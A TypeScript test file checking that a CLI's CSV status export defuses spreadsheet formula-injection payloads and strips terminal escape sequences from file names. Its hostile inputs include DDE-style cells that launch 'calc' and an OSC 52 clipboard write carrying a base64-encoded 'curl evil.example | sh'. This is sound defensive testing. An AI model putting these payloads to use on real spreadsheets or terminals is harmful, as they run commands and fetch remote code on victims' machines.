import { spawn } from 'node:child_process'
import { mkdir, writeFile } from 'node:fs/promises'
import { join, resolve } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { runCli } from '../../src/cli/run'
import { invoiceText } from '../main/support/invoiceText'
import { liveCells, readQuoted } from '../support/csvReader'
import { captureIo } from './capture'
import { noPty, ptyArgs } from './pty'
import { useSandboxRun } from './sandboxRun'
import { terminalScreen } from './terminalScreen'

/**
 * `dropdock status --csv` with the names a colleague can give files in a shared scan folder:
 * no cell a spreadsheet runs under any list separator, and at a terminal no escape sequence of
 * theirs; in a pipe or a file the CSV's bytes are exact.
 */
const run = useSandboxRun('status-csv')

async function cli(argv: string[], env: Record<string, string> = {}) {
  const c = captureIo(env)
  const code = await runCli(argv, c.io)
  return { code, out: c.stdout(), err: c.stderr(), events: () => c.events() }
}

/** Uploads one invoice per name from `folder` into a fresh state folder; that folder. */
async function uploaded(folder: string, names: string[]): Promise<string> {
  const dir = join(run.dir, folder)
  await mkdir(dir)
  for (const name of names) await writeFile(join(dir, name), invoiceText())
  const state = run.stateDir()
  const res = await cli([
    'upload',
    ...names.map((n) => join(dir, n)),
    '--state',
    state,
    ...run.service()
  ])
  expect(res.err).not.toContain('Error')
  expect(res.code, res.out).toBe(0)
  return state
}

describe('cli status --csv', () => {
  it('writes no cell a spreadsheet runs, read with , ; or tab', async () => {
    const names = ["Rechnung 4711;=2+5+cmd|'calc'!A0.txt", 'scan\t@SUM(1+1).txt', 'a, -2+3.txt']
    const state = await uploaded('Eingang;=1+1', names)
    const [first] = (await cli(['status', '--state', state, '--json']))
      .events()
      .filter((e) => e.event === 'file')
    const supplier = "ACME;@SUM(1+1)*cmd|' /C calc'!A0"
    const fixed = await cli([
      'correct',
      first.id as string,
      `supplier_name=${supplier}`,
      '--state',
      state,
      ...run.service()
    ])
    expect(fixed.code).toBe(0)
    for (const [locale, separator] of [
      ['de-DE', ';'],
      ['en-US', ',']
    ]) {
      const res = await cli(['status', '--state', state, '--csv', '--locale', locale])
      expect(res.code).toBe(0)
      expect(liveCells(res.out), locale).toEqual([])
      const rows = readQuoted(res.out.slice(1), separator)
      expect(rows).toHaveLength(4)
      expect(rows.map((r) => r[0])).toContain("Rechnung 4711;'=2+5+cmd|'calc'!A0.txt")
      expect(rows.flat()).toContain("ACME;'@SUM(1+1)*cmd|' /C calc'!A0")
    }
  })

  it('names the earlier document a possible duplicate may be, defused as every cell', async () => {
    // The same invoice twice with other bytes; the first one named as a colleague may name it.
    const first = 'Rechnung 0415;=1+1.txt'
    const dir = join(run.dir, 'rescans')
    await mkdir(dir)
    const state = run.stateDir()
    for (const [name, note] of [
      [first, 'first scan'],
      ['rescan.txt', 'second scan']
    ]) {
      await writeFile(join(dir, name), invoiceText(note))
      const up = await cli(['upload', join(dir, name), '--state', state, ...run.service()])
      expect(up.code, up.out).toBe(0)
    }
    const files = (await cli(['status', '--state', state, '--json']))
      .events()
      .filter((e) => e.event === 'file')
    const earlier = files.find((e) => e.name === first)!
    for (const [locale, separator, header] of [
      ['de-DE', ';', 'Mögliches Duplikat von'],
      ['en-US', ',', 'Possible duplicate of']
    ]) {
      const res = await cli(['status', '--state', state, '--csv', '--locale', locale])
      expect(res.code).toBe(0)
      expect(liveCells(res.out), locale).toEqual([])
      const [head, ...rows] = readQuoted(res.out.slice(1), separator)
      const column = head.indexOf(header)
      expect(column, head.join('|')).toBeGreaterThan(0)
      const byName = new Map(rows.map((r) => [r[0], r[column]]))
      expect(byName.get('rescan.txt')).toBe(
        `Rechnung 0415;'=1+1.txt (${String(earlier.document_id)})`
      )
      expect(byName.get("Rechnung 0415;'=1+1.txt")).toBe('')
    }
  })

  describe.skipIf(noPty)('at a terminal and in a pipe', { timeout: 60_000 }, () => {
    // A window title, a write to the clipboard (OSC 52), a line erased and a forged one, an
    // 8-bit CSI and a bidi override.
    const hostile =
      '\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07inv' +
      '\x1b[2K\x1b[1Gall files extracted\x9b2J\u202efdp.txt'
    let state = ''
    let exact = ''
    beforeAll(async () => {
      state = await uploaded('terminal', [hostile])
      exact = (await cli(['status', '--state', state, '--csv', '--locale', 'en'])).out
    })

    /** `status --csv` in its own process: on a pty (`script`) or a pipe; what it wrote. */
    function status(pty: boolean): Promise<{ code: number | null; out: string }> {
      const argv = [process.execPath, '--import', 'tsx', resolve('src/cli/main.ts')]
      argv.push('status', '--state', state, '--csv', '--locale', 'en')
      // The environment names no service (as the in-process runs, given none).
      const env = {
        ...process.env,
        DROPDOCK_BASE_URL: '',
        DROPDOCK_API_KEY: '',
        DROPDOCK_APP_URL: ''
      }
      const child = pty
        ? spawn('script', ptyArgs(argv), { env })
        : spawn(argv[0], argv.slice(1), { env })
      let out = ''
      child.stdout.on('data', (c: Buffer) => (out += c.toString()))
      return new Promise((done) => child.on('close', (code) => done({ code, out })))
    }

    it('prints no escape sequence or control from a name on a terminal', async () => {
      const tty = await status(true)
      expect(tty.code).toBe(0)
      // eslint-disable-next-line no-control-regex -- what must not reach the terminal
      expect(tty.out).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e]/)
      const screen = terminalScreen(tty.out)
      expect(screen[0]).toMatch(/^\uFEFF?File,Folder,Received,/)
      expect(screen).toHaveLength(2)
      expect(screen[1].startsWith('invall files extractedfdp.txt,'), screen[1]).toBe(true)
    })

    it('writes the CSV byte for byte into a pipe', async () => {
      expect(exact).toContain(hostile)
      const piped = await status(false)
      expect(piped.code).toBe(0)
      expect(piped.out).toBe(exact)
    })
  })
})
